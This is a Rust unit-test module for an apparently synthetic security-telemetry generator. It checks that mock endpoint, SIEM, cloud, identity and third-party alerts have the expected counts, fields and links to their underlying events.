    use crate::tenant::KNOWN_HOSTNAME;

    fn tenant() -> World {
        crate::tenant::generate(42, 1_750_000_000_000, 120, 300)
    }

    fn of<'a>(w: &'a World, product: &str) -> Vec<&'a Value> {
        w.alerts
            .items
            .iter()
            .filter(|a| a["product"] == product)
            .collect()
    }

    #[test]
    fn every_product_raises_alerts_after_the_endpoint_ones() {
        let w = tenant();
        assert_eq!(of(&w, "epp").len(), 300);
        assert!(w.alerts.items[..300].iter().all(|a| a["product"] == "epp"));
        assert_eq!(
            of(&w, "ngsiem").len(),
            RULES.iter().map(|r| r.alerts).sum::<usize>()
        );
        assert_eq!(
            of(&w, "cwpp").len(),
            CLOUD_RULES.iter().map(|r| r.alerts).sum::<usize>()
        );
        assert_eq!(
            of(&w, "idp").len(),
            IDENTITY_RULES.iter().map(|r| r.alerts).sum::<usize>()
        );
        assert_eq!(
            of(&w, "thirdparty").len(),
            VENDOR_RULES.iter().map(|r| r.alerts).sum::<usize>()
        );
        for a in &w.alerts.items {
            let id = a["composite_id"].as_str().unwrap();
            assert!(id.starts_with(&format!("{}:", w.cid)), "{id}");
            assert!(w.alerts.get(id).is_some());
        }
        // The same seed gives the same alerts and events.
        let again = tenant();
        assert_eq!(
            serde_json::to_string(&w.alerts.items).unwrap(),
            serde_json::to_string(&again.alerts.items).unwrap()
        );
        assert_eq!(w.events, again.events);
    }

    #[test]
    fn ngsiem_alerts_lead_to_their_matched_events() {
        let w = tenant();
        for a in of(&w, "ngsiem") {
            let indicator = a["composite_id"]
                .as_str()
                .unwrap()
                .rsplit(':')
                .next()
                .unwrap();
            let ind: Vec<&Value> = w
                .events
                .iter()
                .filter(|e| e["Ngsiem.indicator.id"] == indicator)
                .collect();
            assert_eq!(ind.len(), 1, "{a}");
            let det = &ind[0]["Ngsiem.detection.id"];
            let matched = w
                .events
                .iter()
                .filter(|e| {
                    &e["Ngsiem.detection.id"] == det && e.get("Ngsiem.indicator.id").is_none()
                })
                .count();
            assert!(matched >= 1, "{a}");
        }
        let brute = of(&w, "ngsiem")
            .into_iter()
            .find(|a| {
                a["name"] == "Brute force followed by successful logon"
                    && a["device"]["hostname"] == KNOWN_HOSTNAME
            })
            .expect("a brute force alert on the known host");
        assert_eq!(brute["source_ip"], KNOWN_BAD_IP);
        assert!(
            w.events
                .iter()
                .any(|e| e["#event_simpleName"] == "UserLogonFailed2"
                    && e["RemoteAddressIP4"] == KNOWN_BAD_IP
                    && e["ComputerName"] == KNOWN_HOSTNAME)
        );
        // Newest first still holds.
        assert!(
            w.events
                .windows(2)
                .all(|p| p[0]["@timestamp"].as_i64() >= p[1]["@timestamp"].as_i64())
        );
    }

    #[test]
    fn payload_kinds_carry_their_context() {
        let w = tenant();
        for a in of(&w, "cwpp") {
            for k in [
                "cloud_provider",
                "cloud_account_id",
                "resource_id",
                "policy_name",
                "remediation",
            ] {
                assert!(a[k].is_string() || a[k].is_number(), "{k}: {a}");
            }
            assert_eq!(a["agent_id"], "", "cloud alerts have no sensor");
        }
        for a in of(&w, "idp") {
            assert!(
                a["source_account_name"].is_string() && a["target_service"].is_string(),
                "{a}"
            );
            assert!(
                w.hosts.get(a["agent_id"].as_str().unwrap()).is_some(),
                "{a}"
            );
        }
        let phish = of(&w, "thirdparty")
            .into_iter()
            .find(|a| a["source_vendors"][0] == "Proofpoint")
            .unwrap();
        assert_eq!(phish["sha256"], KNOWN_BAD_SHA256);
    }

    #[test]
    fn endpoint_processes_have_children_in_telemetry() {
        let w = tenant();
        let with_children = of(&w, "epp")
            .into_iter()
            .filter(|a| {
                w.events
                    .iter()
                    .any(|e| e["ParentProcessId"] == a["process_id"] && e["aid"] == a["agent_id"])
            })
            .count();
        let not_killed = of(&w, "epp")
            .into_iter()
            .filter(|a| a["pattern_disposition_details"]["kill_process"] != true)
            .count();
        assert_eq!(with_children, not_killed);
        // Killed processes start nothing.
        for a in of(&w, "epp") {
            if a["pattern_disposition_details"]["kill_process"] == true {
                assert!(
                    !w.events
                        .iter()
                        .any(|e| e["ParentProcessId"] == a["process_id"]
                            && e["#event_simpleName"] == "ProcessRollup2"
                            && e["TargetProcessId"] != a["process_id"]),
                    "{}",
                    a["composite_id"]
                );
            }
        }
    }
}
